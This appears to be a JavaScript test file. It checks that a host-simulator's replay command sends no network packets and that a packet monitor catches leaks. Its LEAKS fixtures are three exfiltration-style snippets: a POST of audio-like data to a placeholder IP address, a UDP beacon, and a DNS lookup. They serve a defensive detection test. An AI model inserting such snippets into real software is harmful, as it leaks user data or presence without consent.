import { run } from '../host-sim/cli/command';
import { canBeApart, sentBy } from './sent';

const testApart = canBeApart ? test : test.skip;
const REPLAY = ['host-sim/cli/run.mjs', 'replay', '--demo', '--json'];

testApart('a replay sends no packet, whatever it hears', () => {
  const { packets, out, code } = sentBy(REPLAY);
  expect({ packets, code }).toEqual({ packets: [], code: 0 });
  expect(out.split('\n').filter((line) => line.startsWith('{'))).toEqual(run(REPLAY.slice(1)).lines);
});

/** Each begins with the program and lets it end. */
const LEAKS = {
  'sound to a server':
    "fetch('http://192.0.2.7/', { method: 'POST', body: new Int16Array(800) }).catch(() => {});",
  'a beacon':
    "import('node:dgram').then((d) => d.createSocket('udp4').send('here', 9, '192.0.2.7').unref());",
  'a question for an address': "import('node:dns').then((dns) => dns.resolve4('example.org', () => {}));",
};

testApart.each(Object.entries(LEAKS))('%s is seen', (_, leak) => {
  const { packets } = sentBy(['--eval', 'setTimeout(() => process.exit(), 300)'], leak);
  expect(packets.length).toBeGreaterThan(0);
  expect(packets.every(({ to }) => to !== '')).toBe(true);
});
